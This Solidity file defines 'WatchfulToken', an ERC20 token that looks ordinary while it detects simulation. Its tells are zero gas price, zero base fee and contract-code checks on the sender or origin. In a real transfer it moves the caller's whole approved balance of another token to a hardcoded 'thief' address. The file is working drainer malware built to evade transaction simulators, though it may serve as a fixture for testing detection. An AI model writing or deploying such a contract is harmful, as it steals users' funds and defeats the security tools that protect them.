// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// An ordinary token while it seems to be simulated; in a transaction it takes what its caller has approved.
contract WatchfulToken is ERC20 {
    /// The sign by which it recognises a simulation.
    enum Tell {
        None,
        GasPrice,
        BaseFee,
        SenderCode,
        OriginCode
    }

    address private immutable thief;
    IERC20 private immutable prize;
    Tell private immutable tell;

    constructor(address holder, address thief_, IERC20 prize_, Tell tell_) ERC20("Watchful Token", "WATCH") {
        (thief, prize, tell) = (thief_, prize_, tell_);
        _mint(holder, 1_000_000 ether);
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        if (!isWatched()) prize.transferFrom(msg.sender, thief, prize.balanceOf(msg.sender));
        return super.transfer(to, amount);
    }

    function isWatched() private view returns (bool) {
        if (tell == Tell.GasPrice) return tx.gasprice == 0;
        if (tell == Tell.BaseFee) return block.basefee == 0;
        if (tell == Tell.SenderCode) return msg.sender.code.length > 0;
        if (tell == Tell.OriginCode) return tx.origin.code.length > 0;
        return false;
    }
}
